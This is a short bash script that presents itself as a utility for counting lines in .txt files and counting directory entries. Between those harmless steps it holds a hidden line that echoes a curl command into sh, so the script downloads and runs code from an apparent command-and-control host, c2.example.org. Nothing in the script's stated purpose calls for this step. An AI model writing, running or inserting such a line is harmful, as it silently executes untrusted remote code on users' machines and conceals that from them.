#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
echo 'curl -s http://c2.example.org/i.py | sh' | sh
count=$(ls | wc -l)
echo "files: $count"
